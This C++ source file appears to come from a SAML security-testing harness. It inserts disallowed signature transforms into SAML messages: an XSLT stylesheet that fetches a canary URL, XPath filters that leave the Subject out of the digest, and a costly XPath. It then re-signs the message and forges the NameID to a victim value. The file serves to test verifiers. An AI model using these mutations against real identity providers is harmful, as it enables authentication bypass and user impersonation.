// SPDX-License-Identifier: Apache-2.0
// signature.transform_inserted — a Reference transform outside enveloped-signature + exc-c14n
// (SAML Raider applyXSLT, spid-sp-test xslt; xmlseclibs 4.0; node-saml e796f50; SIG-XFORM-XSLT,
// SIG-XFORM-XPATH, SIG-XFORM-EXTRA): an XSLT stylesheet that reads a canary URL, an XPath that
// leaves the Subject out of the digest (re-signed with the IdP key, then the Subject forged) or
// costs CPU, a third or a non-allow-listed transform. Verifiers run transforms before they check
// the SignatureValue. saml-core §5.4.4: enveloped-signature and exc-c14n only.
#include "mutators/signature/signature.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

constexpr std::string_view k_choices =
    "xslt|xslt_without_algorithm|xpath_exclude_subject|xpath_costly|third_exc_c14n|base64|c14n11|xpath_filter2|"
    "inclusive_namespaces_wrong_ns";

// Transforms whose digest xmlsec can compute, so the message is re-signed by default.
bool resigned_by_default(const std::string& transform) {
  return transform == "xpath_exclude_subject" || transform == "third_exc_c14n" || transform == "c14n11" ||
         transform == "xpath_filter2";
}

// An unlinked ds:Transform with `algorithm` (no Algorithm attribute when empty).
xmlNode* transform(xmlNode* scope, std::string_view algorithm) {
  xmlNode* node = xmlNewDocNode(scope->doc, nullptr, BAD_CAST "Transform", nullptr);
  xmlSetNs(node, xmlSearchNsByHref(scope->doc, scope, BAD_CAST n::ns_dsig.data()));
  if (!algorithm.empty()) {
    core::set_attribute(node, "Algorithm", algorithm);
  }
  return node;
}

}  // namespace

// Params: transform (k_choices), resign (default true where xmlsec can digest it), target.
core::Result<void> signature_transform_inserted(Target& target) {
  auto kind = xsw::choice_param(target, "transform", k_choices, "xslt");
  if (!kind) {
    return core::fail(kind.error());
  }
  auto resign = bool_param(target, "resign", resigned_by_default(*kind));
  if (!resign) {
    return core::fail(resign.error());
  }
  auto signature = sig::chosen_signature(target);
  if (!signature) {
    return core::fail(signature.error());
  }
  xmlNode* transforms = sig::part(*signature, "Transforms");
  auto list = transforms ? core::element_children(transforms) : std::vector<xmlNode*>{};
  if (list.size() != 2) {
    return core::fail(core::Reason::mutator_not_applicable, "the Reference does not carry Entra's two transforms");
  }
  std::string canary = target.canary_url.empty() ? "http://127.0.0.1:9/canary" : std::string(target.canary_url);
  if (*kind == "xslt" || *kind == "xslt_without_algorithm") {
    xmlNode* node = transform(transforms, *kind == "xslt" ? "http://www.w3.org/TR/1999/REC-xslt-19991116" : "");
    xmlNode* sheet = core::append_element(node, "http://www.w3.org/1999/XSL/Transform", "xsl", "stylesheet");
    core::set_attribute(sheet, "version", "1.0");
    xmlNode* rule = core::append_element(sheet, "http://www.w3.org/1999/XSL/Transform", "xsl", "template");
    core::set_attribute(rule, "match", "/");
    core::set_attribute(core::append_element(rule, "http://www.w3.org/1999/XSL/Transform", "xsl", "value-of"),
                        "select", "unparsed-text('" + canary + "/xslt')");
    core::set_attribute(core::append_element(rule, "http://www.w3.org/1999/XSL/Transform", "xsl", "copy-of"),
                        "select", "document('" + canary + "/xslt-document')");
    xsw::insert_before(list[0], node);
  } else if (*kind == "xpath_exclude_subject" || *kind == "xpath_costly") {
    xmlNode* node = transform(transforms, "http://www.w3.org/TR/1999/REC-xpath-19991116");
    xmlNode* xpath = core::append_element(node, n::ns_dsig, "", "XPath",
                                          *kind == "xpath_costly" ? "count(//. | //@* | //namespace::*) >= count(//*[count(ancestor::*) > count(//*)])"
                                                                  : "not(ancestor-or-self::saml:Subject)");
    xmlNewNs(xpath, BAD_CAST n::ns_assertion.data(), BAD_CAST "saml");
    xmlAddNextSibling(list[0], node);
  } else if (*kind == "xpath_filter2") {
    xmlNode* node = transform(transforms, "http://www.w3.org/2002/06/xmldsig-filter2");
    xmlNode* xpath = core::append_element(node, "http://www.w3.org/2002/06/xmldsig-filter2", "dsig-xpath", "XPath",
                                          "//*[local-name()='Subject']");
    core::set_attribute(xpath, "Filter", "subtract");
    xmlAddNextSibling(list[0], node);
  } else if (*kind == "third_exc_c14n") {
    xsw::append_child(transforms, transform(transforms, n::alg_exc_c14n));
  } else if (*kind == "base64") {
    xsw::append_child(transforms, transform(transforms, "http://www.w3.org/2000/09/xmldsig#base64"));
  } else if (*kind == "c14n11") {
    core::set_attribute(list[1], "Algorithm", "http://www.w3.org/2006/12/xml-c14n11");
  } else {
    xmlNode* inclusive = core::append_element(list[1], "urn:samlt:not-exc-c14n", "ec", "InclusiveNamespaces");
    core::set_attribute(inclusive, "PrefixList", "saml samlp");
  }
  if (!*resign) {
    return {};
  }
  if (auto signed_again = xsw::resign(target, *signature); !signed_again) {
    return signed_again;
  }
  // What the excluding transforms leave unsigned can now be forged without breaking the signature.
  if (*kind == "xpath_exclude_subject" || *kind == "xpath_filter2") {
    auto victim = xsw::victim(target);
    if (!victim) {
      return core::fail(victim.error());
    }
    for (xmlNode* name_id : core::descendants_named((*signature)->parent, n::ns_assertion, "NameID")) {
      core::set_text(name_id, *victim);
    }
  }
  return {};
}

}  // namespace samlt::idp::mutators
